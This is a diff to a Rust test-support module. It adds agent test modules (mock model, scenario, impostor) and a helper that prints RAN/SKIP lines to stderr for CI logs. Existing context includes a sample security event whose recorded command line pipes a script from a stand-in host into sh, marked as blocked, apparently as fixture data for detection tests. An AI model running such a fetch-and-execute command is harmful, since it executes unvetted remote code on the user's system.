@@ -4,6 +4,7 @@
 #![allow(dead_code)]
 
 pub mod expect;
+pub mod mock_model;
 
 use std::io::{BufRead, BufReader, Read};
 use std::path::{Path, PathBuf};
@@ -294,4 +295,18 @@ pub fn sample_event(marker: &str) -> Vec<u8> {
         r#"{{"host":"ci-1","disposition":"blocked","severity":"high","vendor_id":"{marker}","process":{{"pid":4242,"cmd_line":"curl -fsSL https://x.example/i.sh | sh","cwd":"/tmp"}}}}"#
     )
     .into_bytes()
+}
+
+pub mod codex;
+pub mod impostor;
+pub mod model;
+pub mod scenario;
+
+/// Prints a line that shows in `cargo test` output even for a passing test: libtest captures
+/// `println!`/`eprintln!`, not direct writes to the stderr handle. The agent end-to-end tests
+/// use it for their `RAN` / `SKIP` lines, so CI logs say whether the real agents ran.
+#[allow(dead_code)]
+pub fn report(line: &str) {
+    use std::io::Write as _;
+    let _ = writeln!(std::io::stderr().lock(), "{line}");
 }
